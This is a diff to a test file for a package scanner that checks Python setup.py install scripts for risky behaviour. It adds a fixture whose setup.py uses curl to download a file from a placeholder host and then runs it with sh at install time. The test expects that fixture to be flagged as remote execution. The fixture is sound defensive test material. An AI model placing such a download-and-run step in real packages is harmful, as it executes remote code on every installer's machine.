@@ -231,8 +231,11 @@ test('setup.py with urllib at module level is CRITICAL; a declarative setup.py h
   assert.is(evil.installScripts[0]?.name, 'setup.py');
   assert.match(evil.installScripts[0]!.command, /urlopen/);
 
+  // A download by curl at install time is a network call (pkgprec22: no longer a remote command until it is run).
   const sub = await pypi(buildTgz([{ path: 'x-1/setup.py', data: 'import subprocess\nfrom setuptools import setup\nsubprocess.check_call(["curl", "-o", "x", "https://x"])\nsetup(name="x")\n' }]));
-  assert.is(find(sub, 'setup_py_remote_exec')?.severity, 'CRITICAL');
+  assert.is(find(sub, 'setup_py_network')?.severity, 'CRITICAL');
+  const run = await pypi(buildTgz([{ path: 'x-1/setup.py', data: 'import subprocess\nfrom setuptools import setup\nsubprocess.check_call(["curl", "-o", "x", "https://x"])\nsubprocess.check_call(["sh", "x"])\nsetup(name="x")\n' }]));
+  assert.is(find(run, 'setup_py_remote_exec')?.severity, 'CRITICAL');
 
   const plain = await pypi(
     buildTgz([
